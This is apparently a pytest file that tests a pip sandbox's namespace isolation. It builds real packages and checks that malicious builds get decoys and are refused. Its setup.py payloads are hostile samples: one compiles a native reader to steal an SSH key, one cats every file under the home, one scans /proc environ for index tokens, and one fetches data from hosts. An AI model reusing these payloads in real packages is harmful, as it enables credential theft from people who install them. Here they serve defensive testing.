"""``pipguard install --sandbox --isolation ns``: every PEP 517 hook call pip makes runs in
namespaces of its own (a new root from the call's grants, decoy credentials at the homes,
loopback only), with read observation off by default. Real pip, real sdists built in the test
(setuptools, a C extension compiled by gcc, flit-core, hatchling), both routes (a loopback index
with credentials in PIP_INDEX_URL, and --find-links), as root and as ``nobody``."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

import support
from support import build_sdist, requires
from support.pipinstall import PY, Route, listing, pg_install, site_import
from support.projects import pyproject, write_project

pytestmark = [requires("linux"), requires("userns"), requires("landlock", abi=6),
              requires("seccomp_user_notif")]

NS = ["--isolation", "ns"]


def pyproject_project(root: Path, name: str, backend: str) -> Path:
    """A one-module project built by flit-core or hatchling (no setup.py)."""
    src = root / name
    src.mkdir(parents=True)
    requires_, build = {"flit": ("flit_core>=3.4", "flit_core.buildapi"),
                        "hatch": ("hatchling", "hatchling.build")}[backend]
    (src / f"{name}.py").write_text(f'"""{name}: built by {backend} in a namespace."""\n'
                                    f'__version__ = "1.0"\nVALUE = {name!r}\n')
    (src / "pyproject.toml").write_text(pyproject(name, requires_, build, description="pipguard ns test"))
    return src


def _applied(report) -> list:
    return report["isolation"]["applied"]


def _hook_phases(report, package) -> list:
    return [p["name"] for p in report["phases"] if p["package"] == package]


def test_real_builds_install_under_ns(tmp_path, fake_home, route, target, buildtools):
    """setuptools, a C extension (gcc in the namespace), flit-core and hatchling sdists: each
    hook call in its own namespaces, the results installed and importable."""
    route.add(buildtools)
    extra = route.add(tmp_path / "extra")
    build_sdist(pyproject_project(tmp_path / "p", "nsflit", "flit"), extra, "nsflit", "1.0")
    build_sdist(pyproject_project(tmp_path / "p", "nshatch", "hatch"), extra, "nshatch", "1.0")
    proc, report = pg_install([*NS, "legit_pure", "legit_cext", "nsflit", "nshatch"], home=fake_home,
                              target=target, route=route, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-4000:]
    assert report["status"] == "installed" and report["verdict"] == "clean", report["message"]
    assert "ns" in _applied(report) and report["isolation"]["requested"] == "ns"
    assert report["policy"]["observe_reads"] is None  # the backend's default: off under ns
    for name in ("legit-pure", "legit-cext", "nsflit", "nshatch"):
        assert "build_wheel" in _hook_phases(report, name), report["phases"]
    for module in ("legit_pure", "nsflit", "nshatch"):
        assert site_import(target, module).returncode == 0, module
    check = subprocess.run([str(target / "bin" / "python"), "-c",
                            "from legit_cext._fast import add; print(add(2, 3))"],
                           capture_output=True, text=True)
    assert check.stdout.strip() == "5", check.stderr
    gcc = [p for p in report["processes"] if p["argv"] and os.path.basename(p["argv"][0]).startswith(
        ("gcc", "x86_64-linux-gnu-gcc", "cc"))]
    assert gcc, "the compiler ran inside the namespace and was recorded"


NATIVE_READER = r"""
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char buf[4096];
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0) { perror("open"); return 0; }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) fwrite(buf, 1, n, stdout);
    return 0;
}
"""

STEAL_NATIVELY = """
import os, subprocess
key = {key!r}
os.makedirs('nsthief', exist_ok=True)
with open('reader.c', 'w') as handle:
    handle.write({source!r})
loot = b''
if subprocess.run(['cc', '-o', 'reader', 'reader.c']).returncode == 0:
    loot = subprocess.run(['./reader', key], stdout=subprocess.PIPE).stdout
# the quiet attacker: the loot rides inside the wheel it builds
with open(os.path.join('nsthief', 'loot.py'), 'w') as handle:
    handle.write('LOOT = ' + repr(loot) + '\\n')
"""


def _thief(tmp_path, route, key) -> None:
    extra = route.add(tmp_path / "extra")
    proj = write_project(tmp_path / "t", "nsthief")
    (proj / "setup.py").write_text(STEAL_NATIVELY.format(key=str(key), source=NATIVE_READER)
                                   + (proj / "setup.py").read_text())
    build_sdist(proj, extra)


def test_native_credential_read_refuses_the_install(tmp_path, fake_home, route, target):
    """A build compiles a reader with gcc and reads the fake HOME's key natively, read
    observation off (the ns default): it gets a decoy, the read is reported (decoy-read), the
    install is refused and the real key's marker is nowhere in the target."""
    key = fake_home.secrets["id_rsa"]
    _thief(tmp_path, route, key)
    before = listing(target)
    proc, report = pg_install([*NS, "nsthief"], home=fake_home, target=target, route=route, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr[-4000:]
    assert listing(target) == before
    for path in target.rglob("*"):
        if path.is_file():
            assert fake_home.markers["id_rsa"].encode() not in path.read_bytes(), path
    reads = [e for e in report["events"] if e["action"] == "blocked" and e["rule"] == "decoy-read"]
    assert reads and {e["target"] for e in reads} == {str(key)}, report["events"]
    assert all(e["layer"] == "ns" and e["detail"]["package"] == "nsthief" for e in reads)
    assert report["status"] == "refused" and report["policy"]["observe_reads"] is None
    (refusal,) = report["refusals"]
    assert refusal["package"] == "nsthief" and "decoy-read" in refusal["message"], refusal


QUIET_THIEF = r"""
import os, subprocess
# the quiet thief asks for nothing the sandbox refuses: a system file, its own tree, and -- by
# a native cat no audit hook sees, read observation off -- every file under the home it knows
# of; whatever it got rides inside the wheel it builds
home = os.environ.get('PIPGUARD_TEST_HOME', '/nonexistent')
loot = subprocess.run(['sh', '-c', 'cat /etc/os-release setup.py; find "$1" -type f -exec cat {} +',
                       'sh', home], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout
os.makedirs('nsquiet', exist_ok=True)
with open(os.path.join('nsquiet', 'loot.py'), 'w') as handle:
    handle.write('LOOT = ' + repr(loot) + '\n')
"""


def test_quiet_theft_into_the_wheel_gets_decoys_and_is_reported(tmp_path, fake_home, links, target):
    """The quiet attacker under ns: it reads only what the namespace lets it read and carries it
    out in the wheel it builds. The real home is not there: what it finds at the fake HOME's path
    is the decoys, so no canary of the fake HOME is in any file the run left (target, report,
    sdists), and each decoy it read is reported (decoy-read): the install is refused."""
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "q", "nsquiet")
    (proj / "setup.py").write_text(QUIET_THIEF + (proj / "setup.py").read_text())
    build_sdist(proj, extra)
    before = listing(target)
    proc, report = pg_install([*NS, "--keep-env", "PIPGUARD_TEST_HOME", "nsquiet"], home=fake_home,
                              target=target, route=links, cwd=tmp_path,
                              extra_env={"PIPGUARD_TEST_HOME": str(fake_home.path)})
    assert proc.returncode == 1, proc.stderr[-4000:]
    assert listing(target) == before
    canaries = [m.encode() for m in fake_home.markers.values()]
    for path in tmp_path.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            assert not [c for c in canaries if c in data], path
    assert not [m for m in fake_home.markers.values() if m in proc.stdout + proc.stderr]
    reads = [e for e in report["events"] if e["rule"] == "decoy-read"]
    assert str(fake_home.secrets["id_rsa"]) in {e["target"] for e in reads}, report["events"]
    assert all(e["action"] == "blocked" and e["layer"] == "ns" and e["detail"]["package"] == "nsquiet"
               and e["target"].startswith(str(fake_home.path) + "/") for e in reads), reads
    # quiet: nothing else of it was refused (the decoys are what gave it away)
    others = [e for e in report["events"] if e["action"] == "blocked" and e["rule"] not in ("decoy-read", "nscd-probe")]
    assert not others, others
    (refusal,) = report["refusals"]
    assert refusal["package"] == "nsquiet" and "decoy-read" in refusal["message"], refusal


HUNT = r"""
import os, subprocess
# everything a process in the namespace can see of the others: pid 1 is a fork of pipguard
loot = subprocess.run(['sh', '-c', 'cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; '
                       'cat /proc/self/environ'], stdout=subprocess.PIPE).stdout.decode('latin-1')
os.makedirs('nshunter', exist_ok=True)
with open(os.path.join('nshunter', 'loot.py'), 'w') as handle:
    handle.write('LOOT = ' + repr(loot) + '\n')
"""


@pytest.mark.parametrize("where", ["PIP_INDEX_URL", "--index-url"])
def test_index_credentials_are_not_in_the_namespace(tmp_path, fake_home, wheelhouse, sdists, target, where):
    """The index token (in PIP_INDEX_URL, or on pipguard's own command line) is in pipguard's
    environment or argv, and the namespace's pid 1 is a fork of pipguard: a native hunt through
    every /proc/N/cmdline and environ it can see (read observation off) finds it nowhere."""
    route = Route("index", [wheelhouse, sdists])
    try:
        extra = route.add(tmp_path / "extra")
        proj = write_project(tmp_path / "h", "nshunter")
        (proj / "setup.py").write_text(HUNT + (proj / "setup.py").read_text())
        build_sdist(proj, extra)
        token = route.index.token
        args = [*NS, "nshunter"]
        proc, report = pg_install(args, home=fake_home, target=target, cwd=tmp_path,
                                  route=route if where == "PIP_INDEX_URL" else _OnTheCommandLine(route))
        assert any(authorized for _m, _p, authorized in route.index.requests)  # the index was used
    finally:
        route.stop()
    assert proc.returncode == 0, proc.stderr[-4000:]
    loot = subprocess.run([str(target / "bin" / "python"), "-c", "import nshunter.loot as l; print(l.LOOT)"],
                          capture_output=True, text=True).stdout
    assert "_in_process" in loot  # the hunt ran: it read the hook's own command line
    assert token not in loot
    for path in target.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes(), path
    assert token not in (tmp_path / "install-report.json").read_text()


class _OnTheCommandLine:
    """A route giving the index URL, credentials included, as pipguard's ``--index-url``."""

    def __init__(self, route: Route) -> None:
        self.url = route.index.url

    def args(self):
        return ["--index-url", self.url]

    def env(self):
        return {}


FETCHER = """
import os, urllib.request
os.makedirs('nsfetch', exist_ok=True)
for name, url in sorted((k, v) for k, v in os.environ.items() if k.startswith('PIPGUARD_TEST_FETCH')):
    data = urllib.request.urlopen(url, timeout=20).read()
    with open(os.path.join('nsfetch', name.lower() + '.py'), 'w') as handle:
        handle.write('DATA = ' + repr(data) + '\\n')
"""


@pytest.mark.parametrize("allowed", [True, False])
def test_build_host_under_ns(tmp_path, fake_home, links, target, build_host, loopback_tcp, allowed):
    """The namespace has only loopback: an allowed build host is reached through pipguard's
    filtering proxy (its content ends up in the wheel, the destination recorded), any other
    destination is blocked and reported, and its listener receives nothing."""
    extra = links.add(tmp_path / "extra")
    proj = write_project(tmp_path / "f", "nsfetch")
    (proj / "setup.py").write_text(FETCHER + (proj / "setup.py").read_text())
    build_sdist(proj, extra)
    url = (f"http://127.0.0.1:{build_host.port}/crate.txt" if allowed
           else f"http://127.0.0.1:{loopback_tcp.port}/LEAK")
    proc, report = pg_install([*NS, "--allow-build-host", f"127.0.0.1:{build_host.port}",
                               "--keep-env", "PIPGUARD_TEST_FETCH", "nsfetch"],
                              home=fake_home, target=target, route=links, cwd=tmp_path,
                              extra_env={"PIPGUARD_TEST_FETCH": url})
    network = report["network"]
    if allowed:
        assert proc.returncode == 0, proc.stderr[-4000:]
        fetched = subprocess.run([str(target / "bin" / "python"), "-c",
                                  "import nsfetch.pipguard_test_fetch as f; print(f.DATA)"],
                                 capture_output=True, text=True)
        assert fetched.stdout.strip() == repr(build_host.CONTENT), fetched.stderr
        assert any(n["port"] == build_host.port and n["action"] == "allowed" and n["layer"] == "proxy"
                   for n in network), network
    else:
        assert proc.returncode == 1, proc.stderr[-4000:]
        assert loopback_tcp.received == []
        assert not list(target.rglob("nsfetch*"))
        blocked = [e for e in report["events"] if e["kind"] == "network" and e["action"] == "blocked"]
        assert any(e["target"] == f"127.0.0.1:{loopback_tcp.port}" and e["layer"] == "proxy"
                   for e in blocked), report["events"]
        assert f"127.0.0.1:{loopback_tcp.port}" in report["refusals"][0]["message"]


# --------------------------------------------------------------------------- as nobody
@pytest.fixture
def nobody_world(fake_home_factory, wheelhouse, sdists, request):
    """pipguard, a target venv and the packages, all usable by ``nobody``."""
    request.getfixturevalue("nobody_python")
    home = fake_home_factory(owner_uid=support.NOBODY, owner_gid=support.NOBODY)
    base = Path(tempfile.mkdtemp(prefix="pipguard-ns-nobody-"))
    os.chmod(base, 0o755)
    files = base / "files"
    files.mkdir()
    for path in [*wheelhouse.glob("*.whl"), *sdists.glob("*.tar.gz")]:
        shutil.copy(path, files)
    for root, dirs, names in os.walk(base):
        for n in dirs + names + ["."]:
            os.chown(os.path.join(root, n), support.NOBODY, support.NOBODY)
    support.run_as_nobody([PY, "-m", "venv", str(base / "target")], check=True, env=home.env())
    try:
        yield home, base, files
    finally:
        shutil.rmtree(base, ignore_errors=True)


@requires("root")
@pytest.mark.parametrize("what", ["legit_cext", "nsthief"])
def test_as_nobody(nobody_world, what):
    """The non-root path: pipguard run by an unprivileged user maps its own uid (no idmapped
    mounts): a C extension builds and imports; the native key read is refused and reported."""
    home, base, files = nobody_world
    target = base / "target"
    if what == "nsthief":
        proj = write_project(base / "src", "nsthief")
        (proj / "setup.py").write_text(STEAL_NATIVELY.format(key=str(home.secrets["id_rsa"]),
                                                             source=NATIVE_READER)
                                       + (proj / "setup.py").read_text())
        build_sdist(proj, files)
        for root, dirs, names in os.walk(base):
            for n in dirs + names + ["."]:
                os.chown(os.path.join(root, n), support.NOBODY, support.NOBODY)
    report_path = base / "report.json"
    proc = support.run_as_nobody(
        [PY, "-m", "pipguard", "install", "--sandbox", *NS, "--python", str(target / "bin" / "python"),
         "--no-index", "-f", str(files), "--report", str(report_path), what],
        cwd=base, env=home.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=600)
    import json

    report = json.loads(report_path.read_text())
    assert report["host"]["euid"] == support.NOBODY
    if what == "legit_cext":
        assert proc.returncode == 0, proc.stderr[-4000:]
        check = subprocess.run([str(target / "bin" / "python"), "-c",
                                "from legit_cext._fast import add; print(add(2, 3))"],
                               capture_output=True, text=True)
        assert check.stdout.strip() == "5", check.stderr
    else:
        assert proc.returncode == 1, proc.stderr[-4000:]
        reads = [e for e in report["events"] if e["rule"] == "decoy-read"]
        assert {e["target"] for e in reads} == {str(home.secrets["id_rsa"])}, report["events"]
        for path in target.rglob("*"):
            if path.is_file():
                assert home.markers["id_rsa"].encode() not in path.read_bytes(), path
